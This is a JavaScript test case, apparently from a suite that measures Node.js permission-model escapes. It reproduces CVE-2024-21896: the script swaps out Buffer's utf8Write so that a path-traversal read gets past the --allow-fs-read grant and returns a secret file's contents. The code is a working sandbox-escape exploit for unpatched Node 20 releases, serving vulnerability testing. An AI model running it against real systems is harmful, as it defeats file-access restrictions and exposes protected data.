// id: A14
// title: the program replaces Buffer's utf8Write, so the checked path is not the used one
// label: CVE-2024-21896 fixed in 20.11.1 and 21.6.2
// reference: https://nodejs.org/en/blog/vulnerability/february-2024-security-releases
// versions: >=20.5.1 <20.11.1
// measured: escapes: 20.8.0, 20.11.0; denied: 20.3.0, 20.5.0, 20.15.0 to 26.10.0
// grants: --allow-fs-read={grant} --allow-fs-write={grant}
// prove: content
// stops: landlock
// note: without the model no path is re-encoded, so the plain run reads the path directly
'use strict';
const [grant, secret] = process.argv.slice(2);
const finish = (text) => { process.stdout.write(text.split('\n', 1)[0] + '\n'); process.exit(); };
const escaped = (evidence) => finish(`ESCAPED ${evidence}`);
const DENIAL = /^(ERR_ACCESS_DENIED|ERR_DLOPEN_DISABLED|ERR_DLOPEN_FAILED|EACCES|EPERM|ENOSYS|EXDEV|EROFS)$/;
const failed = (error) => finish(`${DENIAL.test(error.code) ? 'DENIED' : 'BROKEN'} ${error.code || error.name} ${error.message}`);
process.on('uncaughtException', failed);

const fs = require('fs');
const path = require('path');
const traversal = `${grant}/../${path.basename(secret)}/secret.txt`;
// The longer path leaves room for the one that replaces it; its last component does not exist.
const asked = Buffer.from(traversal + '.'.repeat(40));
const original = Buffer.prototype.utf8Write;
Buffer.prototype.utf8Write = function(text, ...rest) {
  return original.call(this, text.endsWith('.'.repeat(40)) ? traversal : text, ...rest);
};
try {
  escaped(fs.readFileSync(process.permission ? asked : Buffer.from(traversal), 'utf8'));
} catch (error) {
  failed(error.code === 'ENOENT' ? { code: 'EACCES', message: 'the replacement was not called' } : error);
}
